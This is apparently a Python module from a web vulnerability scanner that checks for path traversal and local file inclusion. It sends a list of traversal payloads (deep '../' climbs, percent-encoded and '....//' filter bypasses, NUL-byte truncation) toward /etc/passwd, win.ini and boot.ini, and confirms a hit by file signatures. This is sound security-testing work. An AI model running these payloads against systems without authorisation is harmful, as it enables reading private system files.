"""Path traversal and local file inclusion: a parameter used to build a file path reads a
file outside the intended directory.

Which parameters: those whose value looks like a file or path (an extension, a slash or
backslash; not an http URL) or whose name suggests one (file, path, page, template,
include, lang …) with a value that is not a bare number (``page=2`` is pagination).
Why not every parameter: the payload list costs up to :data:`MAX_PAYLOADS` requests, and
ids, search terms and headers — most parameters of a site — almost never reach the file
system; testing them all would multiply the scan's requests for nothing. The gap is a
file stem passed in an innocuously named parameter.

Payloads, in order, stopping at the first proof:

* depth: each relative payload climbs 8 levels (``../`` × 8). The operating system stops
  ``..`` at the root, so one deep payload also covers depths 1–7 (organisation-defined:
  web roots deeper than 8 directories are rare);
* ``/etc/passwd`` relative and absolute, ``....//`` (defeats a single non-recursive
  removal of ``../``), ``..%2f`` and ``%2e%2e%2f`` (the value is percent-encoded once more
  on the wire: for applications that decode twice);
* Windows: ``..\\`` × 8 and ``../`` × 8 to ``windows\\win.ini``, absolute
  ``c:\\windows\\win.ini``, and ``boot.ini`` (Windows Server 2003 is still met);
* when the original value has a directory, the same directory followed by the climb
  (applications that insist on their prefix); when it has an extension, ``passwd``
  followed by a NUL byte and that extension (old runtimes cut the name at the NUL).

Proof: the target file's content signature — ``root:x:0:0:`` style for ``/etc/passwd``,
``[fonts]`` and ``[extensions]`` for ``win.ini``, ``[boot loader]`` and ``[operating
systems]`` for ``boot.ini`` — in the response and not in the baseline. A page that merely
echoes the payload never matches: no payload contains a signature.

Requests per parameter: the baseline (shared with other checks) + at most
:data:`MAX_PAYLOADS` (11).
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import ClassVar

from shaobing.web.checks import _inject
from shaobing.web.checks.base import PointCheck, Probe, register
from shaobing.web.client import WebResponse
from shaobing.web.issues import WebIssue
from shaobing.web.request import Location

# Levels climbed by the relative payloads (see the module docstring).
DEPTH = 8
# Payloads per parameter: the 9 fixed ones plus the two that depend on the value.
MAX_PAYLOADS = 11
_FILE_NAME = re.compile(
    r"(?i)(file|path|page|doc|folder|dir|include|inc$|^inc|template|tpl|view|layout|load|"
    r"read|download|attach|fname|^fn$|lang|language|style|theme|skin|module|conf|resource|"
    r"^res$|pdf|report|^img$|image|pic|文件|路径|模板)"
)
_FILE_VALUE = re.compile(r"[/\\]|\.[A-Za-z0-9]{1,5}$")
_URL = re.compile(r"(?i)^[a-z][a-z0-9+.-]*://")
_EXTENSION = re.compile(r"\.([A-Za-z0-9]{1,5})$")


@dataclass(frozen=True)
class Signature:
    """How a file's content is recognised: every pattern must match."""

    file: str
    patterns: tuple[re.Pattern[str], ...]

    def found(self, text: str) -> bool:
        """Whether ``text`` holds the file's content."""
        return all(p.search(text) for p in self.patterns)


# Not anchored to a line start: an included file often follows markup on the same line.
# The password field is "x" or, on old systems, a crypt hash (SHA-512: 106 characters).
PASSWD = Signature("/etc/passwd", (re.compile(r"\broot:[^:\r\n<>]{0,120}:0:0:"),))
WIN_INI = Signature(
    "C:\\Windows\\win.ini", (re.compile(r"(?i)\[fonts\]"), re.compile(r"(?i)\[extensions\]"))
)
BOOT_INI = Signature(
    "C:\\boot.ini", (re.compile(r"(?i)\[boot loader\]"), re.compile(r"(?i)\[operating systems\]"))
)


def payloads(value: str) -> list[tuple[str, Signature]]:
    """The payloads for a parameter whose original value is ``value``, in order."""
    climb = "../" * DEPTH
    found: list[tuple[str, Signature]] = [
        (climb + "etc/passwd", PASSWD),
        ("/etc/passwd", PASSWD),
        ("....//" * DEPTH + "etc/passwd", PASSWD),
        ("..%2f" * DEPTH + "etc%2fpasswd", PASSWD),
        ("%2e%2e%2f" * DEPTH + "etc%2fpasswd", PASSWD),
        ("..\\" * DEPTH + "windows\\win.ini", WIN_INI),
        (climb + "windows/win.ini", WIN_INI),
        ("c:\\windows\\win.ini", WIN_INI),
        (climb + "boot.ini", BOOT_INI),
    ]
    directory = posixpath.dirname(value.replace("\\", "/"))
    if directory and directory != "/":
        found.append((f"{directory}/{climb}etc/passwd", PASSWD))
    extension = _EXTENSION.search(value)
    if extension:
        found.append((f"{climb}etc/passwd\x00.{extension.group(1)}", PASSWD))
    return found[:MAX_PAYLOADS]


def looks_like_file(name: str, value: str) -> bool:
    """Whether a parameter may name a file (see the module docstring)."""
    text = value.strip()
    if _URL.match(text):
        return False
    if _FILE_VALUE.search(text):
        return True
    return bool(_FILE_NAME.search(name)) and not text.isdigit()


class PathTraversal(PointCheck):
    """Path traversal / LFI proved by a system file's content."""

    id: ClassVar[str] = "web.path-traversal"
    kinds: ClassVar[tuple[str, ...]] = ("path-traversal",)

    def applies(self, probe: Probe) -> bool:
        """File-like parameters only (not request headers)."""
        point = probe.point
        return point.location is not Location.HEADER and looks_like_file(point.name, point.value)

    def test(self, probe: Probe) -> Iterator[WebIssue]:
        """Issues proved on the probe's parameter (see the module docstring)."""
        before = _inject.baseline(probe)
        for payload, signature in payloads(probe.point.value):
            if before is not None and signature.found(before.text):
                continue  # the page shows the file anyway: nothing to prove with it
            response = _inject.send(probe, payload)
            if response is not None and _proves(response, signature):
                shown = payload.replace("\x00", "%00")
                yield probe.issue(
                    "path-traversal",
                    f"{_inject.describe(probe.point)} 设为 {shown} 后，响应中出现了系统文件 "
                    f"{signature.file} 的内容特征，而原始响应中没有。",
                    response,
                    payload=shown,
                    file=signature.file,
                )
                return


def _proves(response: WebResponse, signature: Signature) -> bool:
    return signature.found(response.text)


register(PathTraversal())
